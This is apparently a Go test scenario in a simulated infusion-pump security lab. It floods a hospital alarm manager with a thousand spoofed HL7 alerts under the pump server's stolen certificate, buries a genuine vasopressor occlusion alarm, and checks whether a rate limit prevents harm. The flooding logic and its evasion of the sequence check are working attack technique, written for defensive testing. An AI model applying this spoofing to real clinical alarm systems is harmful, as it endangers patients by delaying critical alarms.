package scenarios

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"

	"github.com/pumplab/pumplab/clock"
	"github.com/pumplab/pumplab/harness"
	"github.com/pumplab/pumplab/harness/attack"
	"github.com/pumplab/pumplab/harness/oracle"
	"github.com/pumplab/pumplab/harness/score"
	"github.com/pumplab/pumplab/lab"
	"github.com/pumplab/pumplab/simulators/hl7"
)

// floodCount is the number of spoofed alerts of ATK-27 (bounded; the flood
// also stops after floodWall of wall time).
const (
	floodCount = 1000
	floodWall  = 20 * time.Second
	floodRun   = "ATK27R" // the attacker's reporter runs: ATK27R0, ATK27R1, ...
	// floodBlock is the number of alerts between two of the attacker's
	// heartbeats.
	floodBlock = 20
	// floodBeforeAlarm: the genuine occlusion is injected this many
	// messages before the end of the flood.
	floodBeforeAlarm = 200
	harmWindow       = 15 * time.Minute
	floodApp         = "PUMPSRV_SIM"
)

// floodHeader is the MSH of a PCD-04 as the pump server writes it.
func floodHeader(now time.Time, controlID string) hl7.Header {
	return hl7.Header{SendingApp: hl7.ParseHD(floodApp), SendingFacility: hl7.ParseHD("HOSP_BIOMED"),
		ReceivingApp: hl7.ParseHD("ALERTMGR_SIM^1122334455667788^EUI-64"), ReceivingFacility: hl7.ParseHD("HOSP_AM"),
		Time: now, ControlID: controlID, AcceptAck: "AL", AppAck: "NE"}
}

// ATK-27 Alarm flood via spoofed PCD-04 (REFERENCE.md §3.1): an attacker
// holding the pump server's identity floods the alarm manager with a
// thousand low and medium technical alerts for every bed; the nurses' phones
// fill up, and a genuine occlusion alarm on a vasopressor waits behind them
// (the lab's nurse reads her messages in order, lab/inproc AlertReadTime).
var _ = Describe("ATK-27 alarm flood via spoofed PCD-04", harness.Register("ATK-27", "Alarm flood via spoofed PCD-04 (alarm fatigue, denial of view)",
	harness.Kind("attack"), harness.Technique("T0856"), harness.Technique("T0815"),
	harness.Area("AL"), harness.Area("AU"), harness.Lifecycle("use"), harness.Target("alarms"), harness.Target("nurse")), func() {
	f := harness.New("atk-27-alarm-flood")
	// A thousand alerts make the lab busy for a wall second or two: at x60
	// that is tens of lab seconds, not minutes, of host stall in the
	// latencies.
	f.Topology.Speed = 60

	It("buries a genuine occlusion alarm under a thousand spoofed alerts", func(ctx SpecContext) {
		w, cancel := f.Context(ctx, f.Timeouts.Therapy)
		defer cancel()
		pumps := f.Lab.Pumps()
		pumpID := pumps[6]

		By("starting a norepinephrine drip")
		_, err := startNorepinephrine(w, f.Lab, pumpID, "MRN5527", 250)
		Expect(err).NotTo(HaveOccurred())
		am, err := endpoint(f.Lab, "alarm-manager")
		Expect(err).NotTo(HaveOccurred())

		// Position: the attacker controls the pump server's host and holds
		// its certificate, so mtls-mllp lets it report alerts as the server
		// does. It numbers its messages as a reporter must under
		// alarm-heartbeat: before every block of 20 alerts it announces a
		// reporter run of its own (a heartbeat with a new run id restarts
		// the numbering, which the alarm manager flags, not refuses), and it
		// ends with one more, so that the real server's next heartbeat
		// restarts the numbering at its own counter and the alarm path
		// keeps working (the attacker wants the genuine alarm late, not
		// refused, and no reporter-silent page). What stands in the way of
		// the volume is the per-source rate limit of the alarm manager's
		// listener: rate-limit.
		By("the attacker taking the pump server's certificate")
		foot, err := foothold(w, f.Lab, "pumpserver")
		Expect(err).NotTo(HaveOccurred())

		By("the attacker flooding the alarm manager with low and medium technical alerts for every bed")
		var res attack.FloodResult
		step := attack.Step{ScenarioID: "ATK-27", StepID: "ATK-27/1", Techniques: []string{"T0856", "T0815"},
			Tactic: "TA0105", Assets: []string{"alarm-manager", "nurse-phones"}, Correlation: []string{"mllp:" + am, "alert-prefix:FLD-"},
			Criteria: "hundreds of spoofed alerts reach the nurses' phones and a genuine high-priority alarm is answered late",
			Control:  "rate-limit", Window: 20 * time.Minute}
		err = f.Attack(w, step, func(ctx context.Context) error {
			prio := []string{hl7.PriorityLow, hl7.PriorityMedium}
			var ferr, faultErr error
			// The genuine occlusion comes near the end of the flood: 200
			// messages before its count, or at three quarters of its wall
			// time on a machine too slow to send them all.
			floodStart, injected := time.Now(), false
			res, ferr = attack.FloodMLLP(ctx, nil, am, foot.TLS, attack.FloodMessages, func(i int) []byte {
				t := f.Lab.Clock().Now()
				block, pos := i/(floodBlock+1), i%(floodBlock+1)
				if pos == 0 {
					// A heartbeat of a new run of the attacker's before
					// every block: a real heartbeat that came in between
					// restarted the numbering at the server's counter, and
					// the server's next one restarts it again after this.
					return hl7.BuildHeartbeat(hl7.Heartbeat{Header: floodHeader(t, fmt.Sprintf("HBX-ATK27-%d", block)), App: floodApp,
						Run: fmt.Sprintf("%s%d", floodRun, block), Seq: 1, Time: t}).Bytes()
				}
				n := block*floodBlock + pos // spoofed alert number, 1..floodCount
				if !injected && (n >= floodCount-floodBeforeAlarm || time.Since(floodStart) > floodWall*3/4) {
					injected = true
					// The genuine occlusion: it alarms about 2.3 lab
					// minutes later, near the end of the flood.
					faultErr = f.Lab.Devices().InjectFault(ctx, pumpID, "A", "occlusion_downstream")
				}
				bed := pumps[n%len(pumps)]
				m := hl7.BuildAlert(hl7.Alert{Header: floodHeader(t, fmt.Sprintf("ARX-ATK27-%d", n)),
					AlertID: fmt.Sprintf("FLD-%s-%d", bed, n), AlertApp: floodApp, OnsetTime: t, PumpID: bed,
					Event: hl7.MDCEvtAlarm, EventText: "Communication degraded", Phase: hl7.PhaseStart, State: hl7.StateActive,
					Inactivation: "enabled", Priority: prio[n%2], Type: hl7.AlertTechnical})
				hl7.SetSequence(m, uint64(pos)+1)
				return m.Bytes()
			}, attack.FloodLimits{Count: floodCount / floodBlock * (floodBlock + 1), Duration: floodWall})
			if !injected && faultErr == nil {
				faultErr = f.Lab.Devices().InjectFault(ctx, pumpID, "A", "occlusion_downstream")
			}
			if ferr != nil || faultErr != nil {
				return errors.Join(ferr, faultErr)
			}
			// The last heartbeat of a run of its own; it retries (each lab second, for at most two lab minutes)
			// while the listener's rate limit refuses it.
			for try := 1; ; try++ {
				now := f.Lab.Clock().Now()
				hb := hl7.BuildHeartbeat(hl7.Heartbeat{Header: floodHeader(now, fmt.Sprintf("HBX-ATK27-E%d", try)), App: floodApp,
					Run: floodRun + "E", Seq: 1, Time: now})
				ack, err := attack.SendHL7(ctx, nil, am, foot.TLS, hb)
				if err != nil {
					return fmt.Errorf("attacker heartbeat: %w", err)
				}
				if c := ack.Get("MSA-1"); c == "AA" || c == "CA" {
					return nil
				}
				if try == 120 {
					return fmt.Errorf("attacker heartbeat refused %d times: %s", try, ack.Get("ERR-8"))
				}
				if err := clock.Sleep(ctx, f.Lab.Clock(), time.Second); err != nil {
					return err
				}
			}
		})
		Expect(err).NotTo(HaveOccurred())
		AddReportEntry("flood", fmt.Sprintf("%d sent in %s (%s)", res.Sent, res.Elapsed, res.Stopped))
		if ev, err := f.Lab.Evidence(w); err == nil {
			acts := map[string]int{}
			for _, e := range ev {
				if (e.Control == "rate-limit" || e.Control == "alarm-heartbeat") && !strings.Contains(e.Reason, "missing: sequence jumps") {
					acts[e.Control+" "+e.Action+": "+e.Reason]++
				}
			}
			AddReportEntry("alarm-path controls during the flood", fmt.Sprint(acts))
		}

		By("the genuine occlusion alarm reaching the alarm manager")
		rec, err := f.Lab.Alarms().WaitAlarm(w, func(r lab.AlarmRecord) bool {
			return r.PumpID == pumpID && r.Priority == hl7.PriorityHigh && !r.Received.IsZero()
		})
		Expect(err).NotTo(HaveOccurred())
		onset := rec.Onset
		// Harm is judged over the REFERENCE.md §3.0 window of 15 minutes
		// from the genuine alarm's onset (as ATK-25).
		if d := onset.Add(harmWindow).Sub(f.Lab.Clock().Now()); d > 0 {
			Expect(clock.Sleep(w, f.Lab.Clock(), d)).To(Succeed())
		}

		recs, err := f.Lab.Alarms().Records(w)
		Expect(err).NotTo(HaveOccurred())
		spoofed := 0
		for _, r := range recs {
			if strings.HasPrefix(r.AlertID, "FLD-") {
				spoofed++
			}
			if r.AlertID == rec.AlertID {
				rec = r
			}
		}
		harm, err := oracle.Measure(w, f.Lab, oracle.Window{PumpID: pumpID, Channel: "A", From: onset, To: onset.Add(harmWindow), HighAlert: true})
		Expect(err).NotTo(HaveOccurred())
		lack := harmWindow // never accepted within the window
		if !rec.Accepted.IsZero() {
			lack = rec.Accepted.Sub(onset)
		}
		if lack > 2*time.Minute {
			harm.AlarmsLate++ // REFERENCE.md §3.0: a vasopressor may not wait more than 2 min
		}
		AddReportEntry("spoofed alerts the alarm manager took", fmt.Sprint(spoofed))
		AddReportEntry("genuine alarm L_notify (lab)", rec.Delivered.Sub(onset).String())
		AddReportEntry("genuine alarm L_ack (lab)", lack.String())
		AddReportEntry("interrupted vasopressor (min)", fmt.Sprintf("%.1f", harm.InterruptedMin))
		Expect(rec.Delivered).NotTo(BeZero(), "the genuine alarm reached a phone")

		if f.ControlOn("rate-limit") {
			By("the alarm manager's listener refusing the flood past the per-source limit; the genuine alarm answered in time")
			ev := expectBlocked(w, f.Lab, "rate-limit")
			AddReportEntry("rate-limit evidence", ev.Reason)
			f.Observe(step.StepID, score.Observed{Effect: lack > 2*time.Minute, Harm: harm})
			Expect(spoofed).To(BeNumerically("<", floodCount/2), "the limit let most of the flood through")
			Expect(lack).To(BeNumerically("<=", 2*time.Minute))
			Expect(oracle.Harmful(harm)).To(BeFalse(), "harm %+v", harm)
			return
		}

		By("the nurses reading spoofed alerts while the vasopressor stays stopped")
		f.Observe(step.StepID, score.Observed{Effect: true, Harm: harm})
		// A real heartbeat between two of the attacker's can cost it a few
		// alerts to the sequence check (alarm-heartbeat is still on when
		// only rate-limit is off).
		// A slow machine sends fewer than floodCount in floodWall: judge by
		// what was sent.
		Expect(spoofed).To(BeNumerically(">=", res.Sent*9/10-res.Sent/(floodBlock+1)), "the alarm manager took the flood (%d sent)", res.Sent)
		Expect(lack).To(BeNumerically(">", 2*time.Minute))
		Expect(oracle.Harmful(harm)).To(BeTrue(), "harm %+v", harm)
	})
})
